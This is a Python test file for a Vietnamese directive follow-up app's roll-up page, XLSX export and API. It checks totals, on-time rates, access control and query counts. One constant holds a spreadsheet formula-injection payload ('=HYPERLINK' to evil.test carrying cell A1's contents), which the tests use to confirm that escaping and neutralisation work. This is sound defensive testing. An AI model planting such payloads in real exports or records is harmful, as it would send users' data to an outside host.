"""The roll-up page, its XLSX and its API twin, read as the Ban Dân vận officer would, and as
another body's officer (404); the page reads in a bounded number of statements."""

from datetime import date
from io import BytesIO

from openpyxl import load_workbook
from sqlmodel import Session, select

from models.commands.units import unit_create
from models.ids import id_of
from models.statuses import PeriodStatus, ReportStatus
from models.tables import User
from tests.conftest import T0
from tests.rollup_kit import at, office, period, report
from tests.web.officer_kit import Site, make_site
from tests.web.test_page_queries import statements

TODAY = date(2024, 7, 1)
HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào")'


def _site(engine, session, settings) -> tuple[Site, int]:
    site = make_site(engine, session, settings)
    w = site.world
    units = [("Huyện ủy Đạ Huoai", "huyen-uy"), ("Thành ủy Bảo Lộc", "huyen-uy")]
    units += [(HOSTILE, "doan-the"), ("Ban Tuyên giáo Tỉnh ủy Lâm Đồng", "ban-dang")]
    o = office(session, drafting=w.drafting, issuer=w.issuer, now=T0, units=units)
    q1 = period(
        session,
        o,
        key="2024-quy-1",
        label="Quý I năm 2024",
        cutoff_on=date(2024, 3, 14),
        due_on=date(2024, 3, 21),
        status=PeriodStatus.CLOSED,
    )
    h1 = period(
        session,
        o,
        key="2024-6-thang",
        label="6 tháng đầu năm 2024",
        kind="6-thang",
        cutoff_on=date(2024, 6, 14),
        due_on=date(2024, 6, 21),
    )
    dh, bl, hostile, btg = o.units
    S = ReportStatus.SUBMITTED
    report(
        session,
        q1,
        dh,
        status=S,
        submitted=date(2024, 3, 20),
        figures={"so_buoi_doi_thoai": 12, "so_vu_viec": 1, "ty_le_hai_long": 85.5},
    )
    report(session, q1, bl, status=S, submitted=date(2024, 3, 27), figures={"so_buoi_doi_thoai": 7})
    report(session, q1, hostile, status=ReportStatus.EXEMPT)
    report(
        session, q1, btg, status=S, submitted=date(2024, 3, 21), figures={"so_buoi_doi_thoai": 2}
    )
    report(
        session, h1, dh, status=S, submitted=date(2024, 6, 20), figures={"so_buoi_doi_thoai": 20}
    )
    for u in (bl, hostile, btg):
        report(session, h1, u)
    # Another body's directive with a unit of its own.
    other = unit_create(session, name="Ban Tổ chức Tỉnh ủy Lâm Đồng", symbol="BTC", by="t", now=T0)
    o2 = office(
        session,
        drafting=other,
        issuer=w.issuer,
        now=T0,
        title="Chỉ thị khác",
        units=[("Huyện ủy Di Linh", "huyen-uy")],
    )
    p2 = period(
        session,
        o2,
        key="2024-quy-1",
        label="Quý I năm 2024",
        cutoff_on=date(2024, 3, 14),
        due_on=date(2024, 3, 21),
    )
    report(
        session,
        p2,
        o2.units[0],
        status=S,
        submitted=date(2024, 3, 1),
        figures={"so_buoi_doi_thoai": 99},
    )
    session.rollback()
    site.set_now(at(TODAY))
    return site, o.directive_id


def test_the_rollup_page_shows_table_missing_list_and_charts(engine, session, settings):
    site, did = _site(engine, session, settings)
    page = site.client("hoa").get(f"/directives/{did}/follow-up/rollup")
    assert page.status_code == 200, page.text
    html = page.text
    assert "Huyện ủy Di Linh" not in html and "99" not in html.split('id="rollup-table"')[1]
    # Cấp huyện, quý I: 12 + 7 buổi; the whole directive: 12 + 7 + 2.
    assert 'id="total-huyen"' in html
    huyen = html.split('id="total-huyen"')[1].split("</tr>")[0]
    assert ">19<" in huyen
    assert ">21<" in html.split('id="total-all"')[1].split("</tr>")[0]
    # Quý I: 4 asked, 1 exempt; on time Đạ Huoai and Ban Tuyên giáo (on the due day): 2/3.
    rates = html.split('id="rate-table"')[1].split("</table>")[0]
    assert "66,7%" in rates
    # 6 tháng is past due on 01/7/2024: three units not reported, the exempt one included
    # this time (exempt in quý I only); the hostile name is escaped, never markup.
    missing = html.split('id="rollup-missing"')[1].split("</section>")[0]
    assert missing.count("<li>") == 3 and "Thành ủy Bảo Lộc" in missing
    assert "=HYPERLINK(&#34;http" in html or "=HYPERLINK(&quot;http" in html
    # Charts are inline SVG with a title, and the numbers are also in tables.
    assert html.count("<svg") == 4 and '<title id="chart-rate-title">' in html
    assert 'id="trend-so_buoi_doi_thoai"' in html and "<script" not in html.split("<main>")[1]


def test_filters_narrow_the_table(engine, session, settings):
    site, did = _site(engine, session, settings)
    hoa = site.client("hoa")
    html = hoa.get(f"/directives/{did}/follow-up/rollup?level=tinh").text
    table = html.split('id="rollup-table"')[1]
    assert "Ban Tuyên giáo Tỉnh ủy Lâm Đồng" in table and "Huyện ủy Đạ Huoai" not in table
    html = hoa.get(f"/directives/{did}/follow-up/rollup?period=999999&level=xyz&kind=").text
    assert "Chưa có kỳ báo cáo nào theo điều kiện lọc" in html  # a hand-edited address: no 500


def test_another_bodys_officer_gets_404(engine, session, settings):
    site, did = _site(engine, session, settings)
    khac = site.client("khac")
    for path in ("rollup", "rollup.xlsx", "cards/rollup"):
        assert khac.get(f"/directives/{did}/follow-up/{path}").status_code == 404


def test_the_xlsx_keeps_numbers_as_numbers_and_formulas_as_text(engine, session, settings):
    site, did = _site(engine, session, settings)
    got = site.client("hoa").get(f"/directives/{did}/follow-up/rollup.xlsx")
    assert got.status_code == 200
    wb = load_workbook(BytesIO(got.content))
    ws = wb["Tổng hợp"]
    rows = list(ws.iter_rows(values_only=True))
    names = [r[2] for r in rows]
    assert "'" + HOSTILE in names  # neutralised: shown as text, never evaluated
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    dh = next(r for r in rows if r[2] == "Huyện ủy Đạ Huoai")
    assert 12 in dh and 85.5 in dh and all(not isinstance(v, str) or v != "12" for v in dh)
    total = next(r for r in rows if r[2] == "Tổng cộng")
    assert 21 in total
    rates = list(wb["Tỷ lệ đúng hạn"].iter_rows(values_only=True))
    q1 = next(r for r in rates if r[0] == "Quý I năm 2024")
    assert q1[2] == 3 and abs(q1[8] - 2 / 3) < 1e-9
    missing = [r[2] for r in wb["Chưa báo cáo"].iter_rows(values_only=True)][1:]
    assert "Huyện ủy Di Linh" not in missing and len(missing) == 3


def _token(site: Site, username: str) -> dict[str, str]:
    """A bearer token made on the site's day (a token made at T0 has expired by 2024)."""
    from models.commands.users import api_token_create

    with Session(site.app.state.engine) as s:
        user = s.exec(select(User).where(User.username == username)).one()
        _, raw = api_token_create(s, user_id=id_of(user), name="t", by="t", now=site.clock[0])
    return {"Authorization": f"Bearer {raw}"}


def test_the_api_gives_the_same_numbers(engine, session, settings):
    site, did = _site(engine, session, settings)
    token, other = _token(site, "hoa"), _token(site, "khac")
    api = site.client(None)
    got = api.get(f"/api/v1/directives/{did}/follow-up/rollup", headers=token)
    assert got.status_code == 200, got.text
    body = got.json()
    q1 = body["periods"][0]
    assert (q1["on_time_rate"]["on_time"], q1["on_time_rate"]["due"]) == (2, 3)
    assert q1["exempt"] == 1 and q1["missing"] == []
    all_levels = next(t for t in body["totals"] if t["level"] == "Toàn bộ")
    assert all_levels["totals"][str(q1["id"])]["so_buoi_doi_thoai"] == 21
    assert body["trends"]["so_buoi_doi_thoai"] == [21, 20]
    assert len(body["periods"][1]["missing"]) == 3
    assert {u["name"] for u in body["units"]} >= {"Huyện ủy Đạ Huoai", HOSTILE}
    assert "Huyện ủy Di Linh" not in {u["name"] for u in body["units"]}
    got = api.get(f"/api/v1/directives/{did}/follow-up/rollup", headers=other)
    assert got.status_code == 404
    card = site.client("hoa").get(f"/directives/{did}/follow-up/cards/rollup")
    # The latest period past due is 6 tháng: 1 of 4 submitted, 3 not reported.
    assert card.status_code == 200 and 'id="card-rollup"' in card.text
    assert "1/4 đơn vị đã nộp" in card.text and "Chưa báo cáo: 3 đơn vị" in card.text


def test_the_rollup_page_reads_in_a_bounded_number_of_statements(engine, session, settings):
    site = make_site(engine, session, settings)
    w = site.world
    many = [(f"Đảng ủy xã Số {i:03d}", "dang-uy-xa") for i in range(120)]
    o = office(session, drafting=w.drafting, issuer=w.issuer, now=T0, units=many)
    for n, month in enumerate((3, 6, 9, 12, 3, 6, 9, 12, 3, 6, 9, 12)):
        year = 2024 + n // 4
        p = period(
            session,
            o,
            key=f"{year}-{month}",
            label=f"Kỳ {month}/{year}",
            cutoff_on=date(year, month, 14),
            due_on=date(year, month, 21),
        )
        for u in o.units:
            report(
                session,
                p,
                u,
                status=ReportStatus.SUBMITTED,
                submitted=date(year, month, 20),
                figures={"so_buoi_doi_thoai": 2},
            )
    session.rollback()
    site.set_now(at(date(2027, 1, 10)))
    hoa = site.client("hoa")
    with statements(engine) as sent:
        page = hoa.get(f"/directives/{o.directive_id}/follow-up/rollup")
    assert page.status_code == 200 and "Đảng ủy xã Số 119" in page.text
    # The session's user, the directive, then the plan, the periods, the reports with their
    # units, the figures: 1440 reports in four reads.
    selects = [s for s in sent if s.lstrip().upper().startswith("SELECT")]
    assert len(selects) <= 7, "\n".join(selects)
